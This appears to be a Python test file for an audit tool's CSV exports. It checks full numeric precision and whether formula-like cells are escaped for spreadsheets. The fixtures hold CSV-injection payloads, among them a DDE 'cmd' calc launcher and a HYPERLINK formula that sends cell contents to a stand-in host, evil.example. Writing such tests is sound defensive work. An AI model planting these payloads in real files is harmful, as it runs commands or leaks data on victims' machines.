"""The CSV exports keep every digit of the model's numbers, and the one meant for
spreadsheets runs no formula an id or a label smuggled in."""

import csv
import io

from tests.seeding import write_audit


def test_suspects_carry_the_confidence_and_score_at_full_precision(client, database, reviewer):
    samples = [
        {"confidence": 0.000012345678901, "score": 0.999987654321099, "flagged": True},
        {"confidence": 0.3333333333333333, "score": 0.6666666666666666, "flagged": True},
    ]
    audit_id = write_audit(database, samples)
    answer = client.get(f"/audits/{audit_id}/export.csv?kind=suspects", headers=reviewer)
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    exported = sorted((float(row["confidence"]), float(row["score"])) for row in rows)
    assert exported == sorted((s["confidence"], s["score"]) for s in samples)


# The ids and labels of the issue: each would run as a formula in a spreadsheet.
HOSTILE_IDS = ("=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+2", "-5", "  =2+2", "\r@A1")
HOSTILE_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def hostile_audit(database) -> str:
    samples = [
        {
            "sample_id": sample_id,
            "given_label": HOSTILE_LABEL,
            "suggested_label": "-nut",
            "flagged": True,
            "review_action": "relabel",
            "final_label": "@bolt",
            "reviewed_by": "=reviewer",
        }
        for sample_id in HOSTILE_IDS
    ]
    samples.append({"sample_id": "plain-7", "flagged": True, "given_label": "bolt"})
    return str(write_audit(database, samples, class_names=[HOSTILE_LABEL, "-nut", "@bolt"]))


def export(client, headers, audit_id, **params):
    answer = client.get(f"/audits/{audit_id}/export.csv", headers=headers, params=params)
    assert answer.status_code == 200, answer.text
    return answer.headers["X-Formula-Cells"], list(csv.DictReader(io.StringIO(answer.text)))


def test_the_suspects_export_quotes_every_cell_a_spreadsheet_would_run(client, database, reviewer):
    audit_id = hostile_audit(database)
    mode, rows = export(client, reviewer, audit_id, kind="suspects")
    assert mode == "escaped"
    by_id = {row["sample_id"]: row for row in rows}
    assert set(by_id) == {f"'{sample_id}" for sample_id in HOSTILE_IDS} | {"plain-7"}
    for sample_id in HOSTILE_IDS:
        row = by_id[f"'{sample_id}"]
        assert row["given_label"] == f"'{HOSTILE_LABEL}"
        assert row["suggested_label"] == "'-nut"
        assert row["final_label"] == "'@bolt" and row["reviewed_by"] == "'=reviewer"
        assert float(row["confidence"]) == 0.1 and row["row_index"].isdigit()
    # Cells that are not formula-like stay as they are.
    assert by_id["plain-7"]["given_label"] == "bolt" and by_id["plain-7"]["action"] == ""
    # Asked for, the suspects come with exact values.
    mode, exact = export(client, reviewer, audit_id, kind="suspects", escape_formulas="false")
    assert mode == "exact"
    assert {row["sample_id"] for row in exact} == set(HOSTILE_IDS) | {"plain-7"}


def test_the_corrected_export_keeps_the_values_exact_for_training(client, database, reviewer):
    audit_id = hostile_audit(database)
    mode, rows = export(client, reviewer, audit_id, kind="corrected")
    assert mode == "exact"
    by_id = {row["sample_id"]: row for row in rows}
    assert set(by_id) == set(HOSTILE_IDS) | {"plain-7"}
    assert all(by_id[sample_id]["original_label"] == HOSTILE_LABEL for sample_id in HOSTILE_IDS)
    assert all(by_id[sample_id]["final_label"] == "@bolt" for sample_id in HOSTILE_IDS)
    # For a spreadsheet, the same export with formula-like cells quoted.
    mode, escaped = export(client, reviewer, audit_id, kind="corrected", escape_formulas="true")
    assert mode == "escaped"
    assert {row["sample_id"] for row in escaped} == {f"'{i}" for i in HOSTILE_IDS} | {"plain-7"}
    assert {row["final_label"] for row in escaped} == {"'@bolt", "bolt"}
